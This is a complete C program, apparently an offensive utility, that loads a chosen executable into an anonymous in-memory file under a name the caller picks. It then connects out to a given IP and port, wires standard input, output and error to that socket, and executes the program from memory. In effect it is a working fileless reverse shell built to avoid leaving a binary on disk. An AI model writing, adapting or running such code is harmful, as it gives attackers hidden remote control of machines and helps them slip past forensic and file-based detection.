/* A shell that never was a file: copies PROGRAM into memory and executes it from there, on a connection to a peer.
 *
 * memfd ADDRESS PORT NAME PROGRAM [ARGS...]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in in = { .sin_family = AF_INET };
	struct stat stat;
	int memory, file, fd;

	if (argc < 5)
		errx(2, "memfd ADDRESS PORT NAME PROGRAM [ARGS...]");
	in.sin_port = htons(strtoul(argv[2], NULL, 10));
	if (inet_pton(AF_INET, argv[1], &in.sin_addr) != 1)
		errx(2, "not an IPv4 address: %s", argv[1]);
	memory = memfd_create(argv[3], MFD_CLOEXEC);
	file = open(argv[4], O_RDONLY | O_CLOEXEC);
	if (memory < 0 || file < 0 || fstat(file, &stat))
		err(1, "%s", argv[4]);
	for (off_t done = 0; done < stat.st_size;) {
		ssize_t copied = sendfile(memory, file, &done, stat.st_size - done);
		if (copied <= 0)
			err(1, "sendfile");
	}
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (void *)&in, sizeof(in)))
		err(1, "connect");
	for (int stream = 0; stream < 3; stream++)
		dup2(fd, stream);
	syscall(SYS_execveat, memory, "", argv + 4, environ, AT_EMPTY_PATH);
	err(1, "execveat");
}
